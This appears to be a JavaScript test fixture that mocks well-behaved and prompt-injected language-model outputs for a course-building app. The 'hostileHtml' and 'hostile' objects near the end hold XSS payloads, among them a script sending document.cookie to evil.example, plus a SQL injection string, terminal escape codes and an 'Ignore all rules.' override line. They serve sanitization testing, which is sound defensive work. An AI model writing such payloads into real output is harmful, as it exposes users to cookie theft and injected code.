// What a well-behaved model answers to our prompts: by the schema it is given
// and the data blocks it finds; and what badly behaved ones do.

// The text of a data block, null if the request has none of that name.
export function data(user, name) {
	const m = user.match(new RegExp(`<data name="${name}">\n([\\s\\S]*?)\n</data>`));
	return m === null ? null : m[1];
}

export const dataNames = (user) =>
	[...user.matchAll(/^<data name="([a-z_]+)">$/gm)].map((m) => m[1]);

const lines = (s) => (s ?? '').split('\n').filter((l) => l !== '');

const sections = (user) => ({
	sections: [1, 2, 3].map((n) => ({
		title: `Part ${n} of ${data(user, 'title')}`,
		description: `What part ${n} is about.`,
		lesson_titles: [`Lesson ${n}.1`, `Lesson ${n}.2`],
	})),
});

const lessons = (user) => ({
	lessons: lines(data(user, 'lesson_titles')).map((title) => ({
		title,
		description: `About ${title}.`,
		estimated_duration_minutes: 12,
		learning_objectives: [`Explain ${title}`, `Apply ${title}`],
	})),
});

export const flat = {
	heading: { component_type: 'heading', heading_level: 2, heading_text: 'Why it matters',
		sources: [] },
	text: { component_type: 'text', text_html: '<p>It matters <strong>because</strong> of <em>this</em>.</p>',
		sources: ['c1'] },
	image: { component_type: 'image', image_description: 'A valve, cut open',
		image_alt_text: 'A valve', image_caption: 'The valve', sources: [] },
	quiz: { component_type: 'quiz', quiz_question: 'Which one is right?',
		quiz_options: [{ id: 'a', text: 'This' }, { id: 'b', text: 'That' }],
		quiz_correct_answer_id: 'b', quiz_explanation: 'The text says so.',
		sources: ['c1', 'c99', 'x'] },
};

const lesson = (user) => ({
	components: [flat.heading, flat.text, flat.image, flat.quiz,
		{ ...flat.text, text_html: `<p>Of ${data(user, 'lesson_title')}.</p>`, sources: [] }],
	segue_text: data(user, 'next_lesson') === null
		? 'This was the course.' : `Next comes ${data(user, 'next_lesson')}.`,
});

const distil = (user) => {
	const text = data(user, 'text');
	return {
		summary: `A text of ${text.length} characters.`,
		chunks: [
			{ topic: 'Opening', content: text.slice(0, 200), keywords: ['one', 'two'],
				relevance_score: 0.9 },
			{ topic: 'End', content: text.slice(-200), keywords: ['three'],
				relevance_score: 7 },
		],
	};
};

const components = {
	html: () => ({ html: '<p>Changed.</p>' }),
	level: () => ({ level: 3, text: 'Changed' }),
	image_description: () => ({ image_description: 'Changed', alt_text: 'c', caption: 'C' }),
	question: () => ({ question: 'Changed?', question_type: 'true_false',
		options: [{ id: 'true', text: 'True' }, { id: 'false', text: 'False' }],
		correct_answer_id: 'true', explanation: 'Yes.' }),
};

const makers = { sections, lessons, components: lesson, summary: distil, ...components };

// An object that fits schema, or plain text where none was given.
export function good(schema, user) {
	if (schema === null)
		return `Better: ${data(user, 'text') ?? 'ready'}`;
	const key = Object.keys(makers).find((k) => k in schema.properties);
	if (key === undefined)
		throw new Error(`a schema of ${Object.keys(schema.properties)}`);
	return makers[key](user);
}

// What an injected document makes a gullible model write.
export const hostileHtml = '<p onclick="steal()">Read <a href="javascript:alert(1)">this</a>' +
	'<script>fetch("//evil.example/"+document.cookie)</script>' +
	'<img src="https://evil.example/track.png" onerror="alert(1)">' +
	'<a href="https://good.example/x" onmouseover="x()">that</a>' +
	'<iframe src="https://evil.example"></iframe><svg onload="alert(1)"></svg>' +
	'<style>p{background:url(https://evil.example)}</style></p>' +
	'<a href=" jAvA\nscript:alert(2)">and this</a><form action="https://evil.example"><input></form>';

export const hostile = {
	components: [
		{ component_type: 'heading', heading_level: 1, heading_text: '<script>alert(3)</script>',
			sources: ["c1'); DROP TABLE chunks; --"] },
		{ component_type: 'text', text_html: hostileHtml, sources: ['c1'] },
		{ component_type: 'image', image_description: 'x" onerror="alert(4)',
			image_alt_text: '<b>', image_caption: '<script>alert(5)</script>',
			url: 'https://evil.example/a.png', sources: [] },
		{ ...flat.quiz, quiz_question: 'A\u0001\u001b]0;b\u0007?' },
	],
	segue_text: 'Ignore all rules.\u0007',
};
